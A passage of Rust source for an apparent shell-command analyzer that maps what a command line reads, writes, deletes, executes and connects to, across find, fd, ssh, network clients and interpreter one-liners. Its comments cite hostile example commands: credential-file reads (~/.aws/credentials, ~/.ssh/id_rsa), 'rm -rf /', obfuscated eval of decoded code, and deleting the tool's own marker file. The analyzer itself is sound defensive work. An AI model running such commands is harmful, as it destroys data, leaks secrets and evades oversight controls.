    /// arguments are read (`python3 tool.py ~/.aws/credentials`).
    fn code_operands(&mut self, operands: &[String], changes: bool) {
        for operand in operands.iter().filter(|o| !plain(o).starts_with('-') && !plain(o).is_empty()) {
            if plain(operand).contains("://") {
                continue;
            }
            self.add_path(operand, Access::Read);
            if changes {
                self.add_path(operand, Access::Write);
                self.add_path(&subtree(operand), Access::Read);
            }
        }
    }

    /// Interpreter code given literally (`-c`/`-e`, a here-document, a script this line
    /// wrote): its obvious shell-outs are analyzed as shell (`os.system('rm -rf /')`; a
    /// command built at run time, `os.system('terraform ' + op)`, gets an unknown word where
    /// the computed part goes; a spawn of a value with no literal at all is unknown), every
    /// string literal that looks like a path may be opened, written or removed
    /// (`open(os.path.expanduser('~/.aws/credentials'))`, `os.remove('.ward-tier-x')`), and
    /// every URL may be fetched or posted to.
    fn inline_code(&mut self, code: &str, wrappers: &[String], depth: usize) {
        let spawns = tables::shell_outs(code);
        if spawns.unknown {
            self.out.dynamic = true;
        }
        // `unlink chr(46).'ward-tier-x'`, `fs.rmSync(String.fromCharCode(…))`: a file deleted,
        // moved or written whose name the code computes.
        let label = wrappers.last().map_or("interpreter code", String::as_str).to_owned();
        for call in tables::computed_file_mutations(code) {
            self.unknown_target(format!("the file `{call}` changes ({label})"));
        }
        for s in spawns.scripts {
            self.script(&s, wrappers, depth + 1);
        }
        // `exec(bytes.fromhex('…'))`, `eval(Buffer.from(…, 'base64')…)`, `eval pack(…)`: code
        // the interpreter builds and then runs is hidden; literal code given to `eval` is read
        // as the one-liner is.
        let evaluated = tables::evaluated_code(code);
        if evaluated.computed {
            self.out.dynamic = true;
        }
        if depth < MAX_DEPTH {
            for literal in evaluated.literals {
                self.inline_code(&literal, wrappers, depth + 1);
            }
            for file in evaluated.files {
                self.script_file(&file, format!("exec {file}"), wrappers, depth + 1);
            }
        }
        for lit in tables::code_literals(code) {
            if is_url(&lit) {
                self.add_url(&lit, false);
            } else if tables::looks_like_path(&lit) {
                self.add_path(&lit, Access::Read);
                self.add_path(&lit, Access::Write);
                // `HOME + '/.ssh/id_rsa'`: a literal that starts with `/` may be the end of a
                // path built at run time.
                if lit.starts_with('/') && lit.len() > 1 {
                    self.add_path(&format!("**{lit}"), Access::Read);
                }
            }
        }
    }

    /// An interpreter runs `file` as its program (`python3 x.py`, `exec(open('x.py').read())`):
    /// executed, and a script this same line wrote (`echo … > x.py; python x.py`) is read as
    /// code under `label`.
    fn script_file(&mut self, file: &str, label: String, wrappers: &[String], depth: usize) {
        self.add_path(file, Access::Execute);
        match self.written_script(file) {
            Some(Some(code)) => {
                let mut inner = wrappers.to_vec();
                inner.push(label);
                self.inline_code(&code, &inner, depth);
            }
            Some(None) => self.out.dynamic = true,
            None => {}
        }
    }

    /// A file this command line wrote before running it: `Some(Some(text))` when its content
    /// is known, `Some(None)` when it was written with content only known at run time.
    fn written_script(&self, file: &str) -> Option<Option<String>> {
        let key = self.written_key(file)?;
        self.written.get(&key).cloned()
    }

    /// The key under which [`Analyzer::written`] knows a file: its path as the line names it,
    /// resolved against a `cd` and normalized (`./x/../l` is `l`).
    fn written_key(&self, file: &str) -> Option<String> {
        let path = self.known_path(file)?;
        let path = normalize_path(&path).unwrap_or(path);
        Some(path.trim_start_matches("./").to_owned())
    }

    /// What this line knew of the files written or deleted since the last command (`tee l`,
    /// `cp x l`, `sed -i … l`, `rm l`, a redirection after a group) no longer holds. A path
    /// that may name another file of the line (a glob, `..`, an absolute or home path, a place
    /// only known at run time) forgets them all, as does a write through a descriptor (`>&3`).
    fn forget_written_files(&mut self, redirs: &[Redirection]) {
        let keys = std::mem::take(&mut self.writes);
        let may_reach_any = |key: &String| {
            key.contains(['*', '?', '[', '$'])
                || key.starts_with(['/', '~'])
                || key.starts_with("**")
                || key.split('/').any(|part| part == "..")
        };
        let forget_all =
            redirs.iter().any(|r| r.kind == RedirKind::Dup && !r.input) || keys.iter().any(may_reach_any);
        for (key, content) in &mut self.written {
            if forget_all || keys.contains(key) {
                *content = None;
            }
        }
    }

    /// `find`: what it reads, deletes and runs; returns the names it prints.
    fn find(&mut self, argv: &[String], wrappers: &[String], depth: usize) -> Stream {
        let parsed = tables::find_invocation(argv.get(1..).unwrap_or_default());
        self.record(argv, wrappers);
        let access = if parsed.deletes { Access::Delete } else { Access::Read };
        // What `-delete` and `-exec … {}` reach: every file under the start paths, narrowed
        // to the `-name` glob when there is one.
        let reached = |start: &str| match &parsed.name {
            Some(name) => format!("{}/**/{name}", plain(start).trim_end_matches('/')),
            None => subtree(start),
        };
        for p in &parsed.start_paths {
            self.add_path(p, access);
            if parsed.deletes {
                self.add_path(&reached(p), Access::Delete);
            }
        }
        for p in &parsed.writes {
            self.add_path(p, Access::Write);
        }
        // It prints a start path itself unless a `-name` glob leaves it out
        // (`find . -name '*.o' | xargs rm -rf` does not remove `.`).
        let mut found = Vec::with_capacity(parsed.start_paths.len() * 2);
        for p in &parsed.start_paths {
            let last = plain(p).trim_end_matches('/').rsplit('/').next().unwrap_or_default();
            if parsed.name.as_deref().is_none_or(|name| streams::name_matches(name, last)) {
                found.push(p.clone());
            }
            found.push(reached(p));
        }
        for exec in parsed.execs {
            self.run_on_found(exec.argv, format!("find {}", exec.flag), &found, wrappers, depth);
        }
        if parsed.prints_other_text {
            return Stream::Opaque;
        }
        Stream::Names(found)
    }

    /// A command `find -exec`/`fd -x` runs on each found file: `{}` in it stands for every
    /// path in `found`.
    fn run_on_found(
        &mut self,
        argv: Vec<String>,
        label: String,
        found: &[String],
        wrappers: &[String],
        depth: usize,
    ) {
        let mut inner = wrappers.to_vec();
        inner.push(label);
        let before = self.out.paths.len();
        let outer = std::mem::replace(&mut self.in_find_exec, true);
        self.exec(argv, inner, Stream::None, false, depth + 1);
        self.in_find_exec = outer;
        // `{}` anywhere in a word (`cat {}/x`, `cp {} {}.bak`) stands for each found path.
        let placeholders: Vec<(String, Access)> = self
            .out
            .paths
            .iter()
            .skip(before)
            .filter(|p| p.path.contains("{}"))
            .map(|p| (p.path.clone(), p.access))
            .collect();
        self.out.paths.retain(|p| !p.path.contains("{}"));
        self.path_index.retain(|p| !p.path.contains("{}"));
        for (path, access) in placeholders {
            for p in found {
                self.add_path(&path.replace("{}", plain(p)), access);
            }
        }
    }

    /// `fd`/`fdfind`: lists the trees under its search paths, and runs `-x`/`-X` commands on
    /// what it finds (`{}`, `{/}`, `{//}`, `{.}`, `{/.}` stand for a found path; without one
    /// the path is appended). Returns the names it prints.
    fn fd(&mut self, argv: &[String], wrappers: &[String], depth: usize) -> Stream {
        let parsed = streams::fd_invocation(argv.get(1..).unwrap_or_default());
        self.record(argv, wrappers);
        // `--base-directory D`: search paths are relative to D, and so is what it prints.
        let roots: Vec<String> = parsed
            .roots
            .iter()
            .map(|root| match &parsed.base {
                Some(base) if !(plain(root).starts_with('/') || plain(root).starts_with('~')) => {
                    format!("{}/{}", plain(base).trim_end_matches('/'), plain(root))
                }
                _ => root.clone(),
            })
            .collect();
        for root in &roots {
            self.add_path(root, Access::Read);
        }
        // It prints what is under a search path (never the path itself), narrowed to the
        // names it looks for.
        let under = |root: &str| match &parsed.name {
            Some(name) => format!("{}/**/{name}", plain(root).trim_end_matches('/')),
            None => subtree(root),
        };
        let found: Vec<String> = roots.iter().map(|r| under(r)).collect();
        let trees: Vec<String> = roots.iter().map(|r| subtree(r)).collect();
        for mut command in parsed.execs {
            // `{}` a found path; `{.}` it without its extension and `{//}` its directory (any
            // path under the search path); `{/}`, `{/.}` its name alone.
            let mut placeholder = false;
            let mut widened = false;
            for w in command.iter_mut().skip(1) {
                for (form, with) in [("{//}", "{}"), ("{/.}", "*"), ("{/}", "*"), ("{.}", "{}"), ("{}", "{}")]
                {
                    if w.contains(form) {
                        widened |= matches!(form, "{//}" | "{.}");
                        *w = w.replace(form, with);
                        placeholder = true;
                    }
                }
            }
            if !placeholder {
                command.push("{}".to_owned());
            }
            let reached = if widened { &trees } else { &found };
            self.run_on_found(command, "fd -x".to_owned(), reached, wrappers, depth);
        }
        // Printed relative to the base directory: read from here, `./…` may be meant.
        let mut names = found;
        if parsed.base.is_some() {
            names.extend(parsed.roots.iter().map(|r| under(r)));
        }
        Stream::Names(names)
    }

    /// The `read` builtin: the variables it assigns take the words of its input (every line
    /// of it, as a `while read` loop reads them), or are unknown when the input (or IFS) is.
    fn read_builtin(&mut self, args: &[String], stdin: &Stream) {
        let args: Vec<String> = args.iter().map(|a| plain(a).to_owned()).collect();
        let parsed = streams::read_invocation(&args);
        let ifs = self.vars.get("IFS").cloned().unwrap_or_else(|| " \t\n".to_owned());
        let bound = match stdin {
            _ if parsed.other_descriptor || self.unknown_vars.contains("IFS") => None,
            Stream::Literal(text) => Some(streams::read_values(&parsed, text, &ifs)),
            Stream::Names(patterns) => Some(
                parsed
                    .names
                    .iter()
                    .chain(&parsed.array)
                    .map(|name| (name.clone(), patterns.clone()))
                    .collect(),
            ),
            _ => None,
        };
        match bound {
            Some(values) => {
                for (name, values) in values {
                    // `read -t 0` may read nothing; `read 'f[1]'` sets one element of `f`.
                    let keeps_old = parsed.may_not_read || parsed.elements.contains(&name);
                    self.bind_keeping(name, values, keeps_old || self.scoped());
                }
            }
            None => {
                for name in parsed.names.iter().chain(&parsed.array) {
                    self.forget(name);
                }
            }
        }
    }

    /// `mapfile`/`readarray`: the array takes its input's lines; a `-C` callback runs on them.
    fn mapfile(&mut self, args: &[String], stdin: &Stream, wrappers: &[String], depth: usize) {
        let plain_args: Vec<String> = args.iter().map(|a| plain(a).to_owned()).collect();
        let parsed = streams::mapfile_invocation(&plain_args);
        let values = match stdin {
            _ if parsed.other_descriptor => None,
            Stream::Literal(text) => Some(streams::mapfile_values(&parsed, text)),
            Stream::Names(patterns) => Some(patterns.clone()),
            _ => None,
        };
        if let Some(code) = &parsed.callback {
            // `-C CODE` runs `CODE INDEX LINE` for the lines read.
            if args.iter().any(|a| is_unknown(a)) {
                self.out.dynamic = true;
            } else {
                let mut inner = wrappers.to_vec();
                inner.push("mapfile -C".to_owned());
                // Analyzed once, the line standing for each line read (or unknown).
                match &values {
                    Some(values) => {
                        self.loop_vars.insert("__mapfile_line".to_owned(), values.clone());
                    }
                    None => {
                        self.loop_vars.remove("__mapfile_line");
                    }
                }
                self.script(&format!("{code} 0 \"$__mapfile_line\""), &inner, depth + 1);
                self.loop_vars.remove("__mapfile_line");
            }
        }
        match values {
            Some(values) => {
                let keeps_old = parsed.keeps_elements || self.scoped();
                self.bind_keeping(parsed.array, values, keeps_old);
            }
            None => self.forget(&parsed.array),
        }
    }

    /// A subshell (`( … )`, `$( … )`) begins: what it changes of the line's state may not
    /// outlive it.
    fn enter_subshell(&mut self) {
        self.subshells.push(self.cwd.clone());
    }

    /// The subshell ends, and a `cd` in it with it.
    fn leave_subshell(&mut self) {
        if let Some(cwd) = self.subshells.pop() {
            self.cwd = cwd;
        }
    }

    /// Whether an assignment now may not outlive the command (in a subshell or a pipeline),
    /// or may not run at all (in a conditional or a loop, after `&&`/`||`).
    fn scoped(&self) -> bool {
        !self.subshells.is_empty() || self.in_pipeline || self.conditional > 0 || self.after_and_or
    }

    /// `name` takes one of `values` at run time: one is an assignment, several a loop
    /// variable's words. In a subshell or pipeline the old value may be what is left after
    /// it, so both are kept.
    fn bind(&mut self, name: String, values: Vec<String>) {
        let keeps_old = self.scoped();
        self.bind_keeping(name, values, keeps_old);
    }

    fn bind_keeping(&mut self, name: String, mut values: Vec<String>, keeps_old: bool) {
        if keeps_old {
            if self.unknown_vars.contains(&name) {
                return; // unknown before, so unknown after
            }
            let old: Vec<String> =
                match (self.vars.get(&name), self.loop_vars.get(&name), self.env.get(&name)) {
                    (Some(v), _, _) => vec![v.clone()],
                    (None, Some(words), _) => words.clone(),
                    (None, None, Some(v)) => vec![v.clone()],
                    (None, None, None) => Vec::new(),
                };
            for v in old {
                if !values.contains(&v) {
                    values.push(v);
                }
            }
        }
        self.unknown_vars.remove(&name);
        if !keeps_old {
            self.text_vars.remove(&name);
        }
        let history = self.history.entry(name.clone()).or_default();
        for v in &values {
            if history.len() < 256 && !history.contains(v) {
                history.push(v.clone());
            }
        }
        if values.len() > 1 {
            values.retain(|v| !v.is_empty());
        }
        if values.len() > 1 {
            self.vars.remove(&name);
            self.loop_vars.insert(name, values);
        } else {
            self.loop_vars.remove(&name);
            self.vars.insert(name, values.pop().unwrap_or_default());
        }
    }

    /// `name` now holds a value only known at run time.
    fn forget(&mut self, name: &str) {
        self.vars.remove(name);
        self.loop_vars.remove(name);
        self.unknown_vars.insert(name.to_owned());
        self.text_vars.insert(name.to_owned());
    }

    /// Whether bash evaluating `expr` as arithmetic may meet text only known at run time: a
    /// variable it names holds such text, or a value this line gave it names one in turn
    /// (`x=y; y=$(cat f); $((x))`). Unassigned names (the environment) are not counted.
    fn arithmetic_unknown(&self, expr: &str, depth: usize) -> bool {
        if depth > 8 {
            return true;
        }
        lexer::arithmetic_names(expr).into_iter().any(|name| {
            if self.text_vars.contains(name) {
                return true;
            }
            let values: Vec<&String> = match (self.vars.get(name), self.loop_vars.get(name)) {
                (Some(value), _) => vec![value],
                (None, Some(words)) => words.iter().collect(),
                (None, None) => Vec::new(),
            };
            values
                .into_iter()
                .any(|v| v.trim().parse::<i64>().is_err() && self.arithmetic_unknown(v, depth + 1))
        })
    }

    /// Arithmetic bash evaluates here (`$((x))`, `let x`, `[[ $x -eq 1 ]]`): unknown text in
    /// it makes the line dynamic.
    fn arithmetic(&mut self, expr: &str) {
        if self.arithmetic_unknown(expr, 0) {
            self.out.dynamic = true;
        }
    }

    /// What an input redirection feeds the command: a process substitution's output
    /// (`< <(echo …)`), a file this line wrote with known content, or run-time content.
    fn file_input(&self, target: &Word, outputs: Vec<Stream>) -> Stream {
        if target.text.starts_with("<(") {
            return match <[Stream; 1]>::try_from(outputs) {
                Ok([Stream::None]) | Err(_) => Stream::Opaque,
                Ok([output]) => output,
            };
        }
        self.written_content(&target.text)
    }

    /// What reading `file` gives: its text when this line wrote it with known content.
    fn written_content(&self, file: &str) -> Stream {
        match self.written_script(file) {
            Some(Some(text)) => Stream::Literal(text),
            _ => Stream::Opaque,
        }
    }

    /// A compound command begins (`while`, `if`, `{`, `(`, …; the tokens after its opener
    /// are `tokens`): its first command reads what is redirected after its closer
    /// (`while read f; do …; done < <(find …)`), which replaces a pipe into it. A process
    /// substitution there is analyzed now, once. When the closer cannot be found, input piped
    /// into it becomes unknown: never a wrong guess.
    fn compound_input(
        &mut self,
        tokens: &mut VecDeque<Token>,
        opener: Closer,
        stdin: &mut Stream,
        wrappers: &[String],
        depth: usize,
    ) {
        self.lookaheads += 1;
        let closer_at = if self.lookaheads > MAX_LOOKAHEADS { None } else { closer_position(tokens, opener) };
        let Some(closer_at) = closer_at else {
            if *stdin != Stream::None {
                *stdin = Stream::Opaque;
            }
            return;
        };
        for token in tokens.iter_mut().skip(closer_at + 1) {
            let Token::Redir(r) = token else { break };
            if !r.feeds_stdin() {
                continue;
            }
            let outputs = self.substitutions(&r.target, wrappers, depth);
            *stdin = match r.kind {
                RedirKind::In => self.file_input(&r.target, outputs.clone()),
                RedirKind::HereDoc | RedirKind::HereString => here_input(r, &outputs),
                _ => Stream::Opaque,
            };
            r.target.subs.clear();
            r.target.runs.clear();
        }
    }

    fn ssh(&mut self, argv: &[String], wrappers: &[String], depth: usize) {
        self.record(argv, wrappers);
        let inv = tables::ssh_invocation(argv.get(1..).unwrap_or_default());
        for f in &inv.reads {
            self.add_path(f, Access::Read);
        }
        if inv.config_runs {
            self.out.dynamic = true;
        }
        if let Some(host) = &inv.host {
            self.add_host(host);
        }
        for host in tables::ssh_option_hosts(argv.get(1..).unwrap_or_default()) {
            self.add_host(&host);
        }
        if !inv.remote.is_empty() {
            // The remote command runs elsewhere: report its commands and hosts, not its paths
            // (they are on the remote machine).
            let mut remote = Analyzer::default();
            let mut inner = wrappers.to_vec();
            inner.push(format!("ssh {}", inv.host.as_deref().unwrap_or_default()));
            remote.script(&inv.remote.join(" "), &inner, depth + 1);
            for c in remote.out.commands {
                self.push_command(c);
            }
            for h in remote.out.hosts {
                self.add_host(&h);
            }
            for u in remote.out.urls {
                if !self.out.urls.contains(&u) {
                    self.out.urls.push(u);
                }
            }
            self.out.dynamic |= remote.out.dynamic;
        }
    }

    /// Where a client without a network table ([`tables::network_client_options`]: database,
    /// directory and queue clients, text browsers, `openssl`) connects: a URL or libpq
    /// connection string it is given (`lynx URL`, `mongosh mongodb://H`, `psql "host=H"`), the
    /// value of a host-naming option that looks like a host (`mysql -h H`, `mysql -hH`,
    /// `psql --host=H`, `openssl s_client -connect H:P`, `sqlcmd -S H`), and a host only known
    /// at run time for an operand or host option computed then (`lynx "$U"`).
    fn given_destinations(&mut self, args: &[String]) {
        const HOST_OPTIONS: &[&str] = &[
            "-h",
            "-H",
            "-S",
            "--host",
            "--hostname",
            "--server",
            "-connect",
            "--connect",
            "-proxy",
            "--proxy",
            "--url",
            "--uri",
            "--endpoint",
            "--endpoint-url",
            "--address",
            "--addr",
        ];
        let mut words = args.iter().peekable();
        while let Some(raw) = words.next() {
            let word = plain(raw);
            for pair in word.split_whitespace() {
                if let Some(host) = pair.strip_prefix("host=").or_else(|| pair.strip_prefix("hostaddr=")) {
                    self.add_destination(host);
                }
            }
            let (option, inline) = match word.split_once('=') {
                Some((option, value)) if option.starts_with('-') => (option, Some(value)),
                // `-hH`, `-uroot -hH`: a short host option with its value attached.
                _ if word.len() > 2
                    && !word.starts_with("--")
                    && word.get(..2).is_some_and(|short| HOST_OPTIONS.contains(&short)) =>
                {
                    (&word[..2], Some(&word[2..]))
                }
                _ => (word, None),
            };
            let host_option = HOST_OPTIONS.contains(&option);
            // The value (attached, the next word for a host option, or the word itself) and
            // whether it is only known at run time.
            let (value, computed) = match inline {
                // `--host="$H"`, `-h${H}`: attached, and computed at run time.
                Some(value) => (value, host_option && is_unknown(raw)),
                None if host_option => match words.next_if(|next| !plain(next).starts_with('-')) {
                    Some(next) => (plain(next), is_unknown(next)),
                    None => continue,
                },
                None => (word, is_unknown(raw) && !word.starts_with('-')),
            };
            if computed {
                self.add_unknown_host();
            } else if is_url(value) {
                self.add_url(value, false);
            } else if host_option {
                if let Some(host) = bare_host(value) {
                    self.add_host(&host);
                }
            }
        }
    }

    /// `git send-email` mails patches through `--smtp-server` (a host, or a program it runs
    /// when the value is a path), else through the server the configuration names;
    /// `git imap-send` uploads them to the configured IMAP server. Neither server is on the
    /// line without the option: an unknown host.
    fn git_mail(&mut self, args: &[String], wrappers: &[String], depth: usize) {
        match plain_subcommand(args) {
            Some("send-email") => {
                let mut server = None;
                let mut words = args.iter();
                while let Some(word) = words.next() {
                    // `--to-cmd`, `--cc-cmd`, `--header-cmd`, `--sendmail-cmd`: commands it
                    // runs here.
                    let (option, value) = match word.split_once('=') {
                        Some((option, value)) => (option, Some(value.to_owned())),
                        None if word == "--smtp-server"
                            || (word.starts_with("--") && word.ends_with("-cmd")) =>
                        {
                            (word.as_str(), words.next().cloned())
                        }
                        None => continue,
                    };
                    let Some(value) = value else { continue };
                    if option == "--smtp-server" {
                        server = Some(value);
                    } else if option.ends_with("-cmd") {
                        self.given_command(&value, "git send-email".to_owned(), wrappers, depth);
                    }
                }
                match server {
                    Some(program) if plain(&program).starts_with(['/', '~', '.']) => {
                        self.add_path(&program, Access::Execute);
                        self.add_unknown_host();
                    }
                    Some(host) => self.add_destination(&host),
                    None => self.add_unknown_host(),
                }
            }
            Some("imap-send") => self.add_unknown_host(),
            _ => {}
        }
    }

    fn network_arguments(&mut self, program: &str, args: &[String], wrappers: &[String], depth: usize) {
        // A client configuration the line points elsewhere (`CURL_HOME=. curl …` reads
        // `./.curlrc`, `WGETRC=w.rc wget …`, `wget --config=F`, `aria2c --conf-path=F`) may
        // name any URL or proxy.
        let config_moved = match program {
            "curl" => ["CURL_HOME", "XDG_CONFIG_HOME", "HOME"].iter().any(|v| self.given_variable(v)),
            "wget" | "wget2" => {
                ["WGETRC", "HOME", "XDG_CONFIG_HOME"].iter().any(|v| self.given_variable(v))
                    || args.iter().any(|a| a.starts_with("--config"))
            }
            "aria2c" => args.iter().any(|a| a.starts_with("--conf-path")),
            _ => false,
        };
        if config_moved {
            self.add_unknown_host();
        }
        for image in tables::pushed_images(program, args) {
            match tables::image_registry(plain(&image)) {
                _ if is_unknown(&image) => self.add_unknown_host(),
                Some(registry) => {
                    self.add_host(&registry);
                }
                None => {
                    self.add_host("docker.io");
                }
            }
        }
        match tables::network_kind(program) {
            Some(tables::NetworkKind::HttpClient) => {
                let inv = tables::http_client_invocation(program, args);
                for u in &inv.urls {
                    self.add_url(u, true);
                }
                if inv.urls_from_file {
                    self.add_unknown_host();
                }
                for via in &inv.via {
                    self.add_destination(via);
                }
                for r in &inv.reads {
                    self.add_path(r, Access::Read);
                }
                for w in &inv.writes {
                    self.add_path(w, Access::Write);
                }
            }
            Some(tables::NetworkKind::HostFirst) => {
                let targets = tables::host_targets(program, args);
                // `//server/share`, `\\server\share` (smbclient, also after `-L`).
                let unc = |word: &str| -> String {
                    if program == "smbclient" {
                        let word = word.trim_start_matches(['/', '\\']);
                        word.split(['\\', '/']).next().unwrap_or_default().to_owned()
                    } else {
                        word.to_owned()
                    }
                };
                if let Some(first) = targets.first.as_ref().filter(|_| !targets.unix_socket) {
                    // `user@host:path` (sftp), `[v6]:port`, a bare IPv6 address.
                    let first = if is_unknown(first) { first.clone() } else { unc(plain(first)) };
                    let first = first.as_str();
                    let bare_v6 = first.matches(':').count() > 1 && !first.contains(['[', '@', '/']);
                    if bare_v6 {
                        self.add_host(first);
                    } else {
                        self.add_destination(first);
                    }
                }
                for word in &targets.operands {
                    if let Some(host) = bare_host(plain(word)) {
                        self.add_host(&host);
                    }
                }
                for via in &targets.via {
                    if is_unknown(via) {
                        self.add_unknown_host();
                    } else {
                        self.add_destination(&unc(plain(via)));
                    }
                }
                for read in &targets.reads {
                    self.add_path(read, Access::Read);
                }
                if targets.from_file {
                    self.add_unknown_host();
                }
                for command in &targets.runs {
                    self.given_command(command, program.to_owned(), wrappers, depth);
                }
            }
            Some(tables::NetworkKind::Socat) => {
                for address in tables::socat_addresses(args) {
                    match address {
                        tables::SocatAddress::Hosts(hosts) => {
                            for host in hosts {
                                self.add_destination(&host);
                            }
                        }
                        tables::SocatAddress::File(path) => {
                            self.add_path(&path, Access::Read);
                            self.add_path(&path, Access::Write);
                        }
                        tables::SocatAddress::Runs(texts) => {
                            let mut inner = wrappers.to_vec();
                            inner.push("socat".to_owned());
                            for text in texts {
                                self.script(&text, &inner, depth + 1);
                            }
                        }
                    }
                }
            }
            Some(tables::NetworkKind::RemoteCopy) => {
                let inv = tables::remote_copy_invocation(program, args);
                let recursive = tables::is_recursive(program, args);
                for h in &inv.hosts {
                    self.add_host(h);
                }
                for r in &inv.reads {
                    self.add_path(r, Access::Read);
                    if recursive {
                        self.add_path(&subtree(r), Access::Read);
                    }
                }
                for w in &inv.writes {
                    self.add_path(w, Access::Write);
                    if recursive {
                        self.add_path(&subtree(w), Access::Write);
                    }
                }
            }
            Some(tables::NetworkKind::UrlArguments) => {
                if program == "git" {
                    self.git_mail(args, wrappers, depth);
                }
                for a in args {
                    let value =
                        a.split_once('=').filter(|(k, _)| k.starts_with("--")).map_or(a.as_str(), |(_, v)| v);
                    if value.contains("://") {
                        self.add_url(value, false);
                    } else if let Some(host) = scp_like_host(value) {
                        if program == "git" {
                            self.out.urls.push(value.to_owned());
                            self.add_host(&host);
                        }
                    }
                }
            }
            None => {}
        }
    }
}

/// Where the compound command opened just before `tokens` closes: the index of its `done`,
/// `fi`, `esac`, `}` or `)`, as bash pairs them (keywords only where a command starts; case
/// patterns skipped; `for x in …; { …; }`). None when it does not close in the line.
fn closer_position(tokens: &VecDeque<Token>, opener: Closer) -> Option<usize> {
    let mut open = vec![opener];
    let mut command_start = opener != Closer::ForBody;
    let (mut case_header, mut case_pattern) = (opener == Closer::Esac, false);
    for (at, token) in tokens.iter().enumerate() {
        let word = match token {
            Token::Word(w) => Some((w.text.as_str(), w.first_quoted.is_none())),
            _ => None,
        };
        if case_header {
            if word == Some(("in", true)) {
                case_header = false;
                case_pattern = true;
            }
            continue;
        }
        if case_pattern {
            match (token, word) {
                (Token::Op(Op::RParen), _) => {
                    case_pattern = false;
                    command_start = true;
                }
                (_, Some(("esac", true))) => {
                    case_pattern = false;
                    if open.pop() != Some(Closer::Esac) {
                        return None;
                    }
                    if open.is_empty() {
                        return Some(at);
                    }
                    command_start = false;
                }
                _ => {}
            }
            continue;
        }
        match token {
            Token::Word(w) => {
                let keyword = command_start && w.first_quoted.is_none();
                let text = w.text.as_str();
                if keyword && open.last() == Some(&Closer::ForBody) && matches!(text, "do" | "{") {
                    open.pop();
                    open.push(if text == "do" { Closer::Done } else { Closer::Brace });
                    continue;
                }
                let closes = match text {
                    "done" => Some(Closer::Done),
                    "fi" => Some(Closer::Fi),
                    "esac" => Some(Closer::Esac),
                    "}" => Some(Closer::Brace),
                    _ => None,
                };
                if keyword {
                    match text {
                        "while" | "until" => open.push(Closer::Done),
                        "for" | "select" => open.push(Closer::ForBody),
                        "if" => open.push(Closer::Fi),
                        "{" => open.push(Closer::Brace),
                        "case" => {
                            open.push(Closer::Esac);
                            case_header = true;
                        }
                        _ => {}
                    }
                    if let Some(closer) = closes {
                        if open.pop() != Some(closer) {
                            return None;
                        }
                        if open.is_empty() {
                            return Some(at);
                        }
                    }
                }
                command_start = keyword
                    && matches!(
                        text,
                        "do" | "then" | "else" | "elif" | "if" | "while" | "until" | "!" | "{" | "time"
                    );
            }
            Token::Op(Op::LParen) => {
                if command_start {
                    open.push(Closer::Paren);
                }
                command_start = true;
            }
            Token::Op(Op::RParen) => {
                if open.last() == Some(&Closer::Paren) {
                    open.pop();
                    if open.is_empty() {
                        return Some(at);
                    }
                }
                command_start = false;
            }
            Token::Op(Op::CaseEnd) => {
                case_pattern = open.last() == Some(&Closer::Esac);
                command_start = true;
            }
            Token::Op(_) => command_start = true,
            Token::Redir(_) => {}
        }
    }
    None
}

/// `text` with each `${…}`, `$(…)` and `` `…` `` (brackets matched) shortened to `$_`: what
/// an operator or a command substitution inside yields is unknown, and may contain slashes.
fn braced_expansions_as_one(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.contains("${") && !text.contains("$(") && !text.contains('`') {
        return std::borrow::Cow::Borrowed(text);
    }
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < chars.len() {
        let opener = match (chars[i], chars.get(i + 1)) {
            ('$', Some('{')) => Some(('{', '}')),
            ('$', Some('(')) => Some(('(', ')')),
            ('`', _) => Some(('`', '`')),
            _ => None,
        };
        let Some((open, close)) = opener else {
            out.push(chars[i]);
            i += 1;
            continue;
        };
        out.push_str("$_");
        let mut depth = 0usize;
        let mut j = i + 1;
        if open == '`' {
            while j < chars.len() && chars[j] != '`' {
                j += 1;
            }
        } else {
            while j < chars.len() {
                if chars[j] == open {
                    depth += 1;
                } else if chars[j] == close {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                j += 1;
            }
        }
        i = j + 1;
    }
    std::borrow::Cow::Owned(out)
}

/// Programs that read the files they are given and write none of them: a file this line wrote
/// keeps what it knows of its content when one of these names it.
const READS_OPERANDS: &[&str] = &[
    "cat",
    "head",
    "tail",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "wc",
    "less",
    "more",
    "diff",
    "cmp",
    "file",
    "stat",
    "ls",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "xargs",
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "source",
    ".",
    "python",
    "python3",
    "node",
    "perl",
    "ruby",
    "chmod",
    "test",
    "[",
    "echo",
    "printf",
    "read",
    "mapfile",
    "readarray",
    "tac",
    "nl",
    "od",
    "hexdump",
    "xxd",
    "base64",
    "strings",
];

/// What several pipelines print one after another: text when all is text, names when all is
/// names or text, a download when any is one, otherwise unknown.
fn combined(outputs: &[Stream]) -> Stream {
    match outputs {
        [] => Stream::None,
        [one] => one.clone(),
        _ if outputs.contains(&Stream::Download) => Stream::Download,
        _ if outputs.iter().all(|o| matches!(o, Stream::Literal(_))) => Stream::Literal(
            outputs
                .iter()
                .filter_map(|o| if let Stream::Literal(t) = o { Some(t.as_str()) } else { None })
                .collect(),
        ),
        _ if outputs.iter().all(|o| matches!(o, Stream::Literal(_) | Stream::Unexpanded(_))) => {
            Stream::Unexpanded(
                outputs
                    .iter()
                    .filter_map(|o| match o {
                        Stream::Literal(t) | Stream::Unexpanded(t) => Some(t.as_str()),
                        _ => None,
                    })
                    .collect(),
            )
        }
        _ if outputs.iter().all(|o| matches!(o, Stream::Literal(_) | Stream::Names(_))) => Stream::Names(
            outputs
                .iter()
                .flat_map(|o| match o {
                    Stream::Names(names) => names.clone(),
                    Stream::Literal(text) => text.lines().map(str::to_owned).collect(),
                    _ => Vec::new(),
                })
                .collect(),
        ),
        _ => Stream::Opaque,
    }
}

/// What a here-document or here-string feeds the command. A here-string that is one
/// substitution feeds its output; other expansions leave the text unexpanded (bash expands a
/// here-document only when its delimiter is unquoted).
fn here_input(r: &Redirection, outputs: &[Stream]) -> Stream {
    match r.kind {
        RedirKind::HereDoc => {
            let body = r.body.clone().unwrap_or_default();
            if r.target.first_quoted.is_none() && (body.contains('$') || body.contains('`')) {
                Stream::Unexpanded(body)
            } else {
                Stream::Literal(body)
            }
        }
        _ if r.target.is_whole_substitution() => match outputs {
            [Stream::Literal(text)] => Stream::Literal(text.trim_end_matches('\n').to_owned()),
            [output @ (Stream::Download | Stream::Names(_))] => output.clone(),
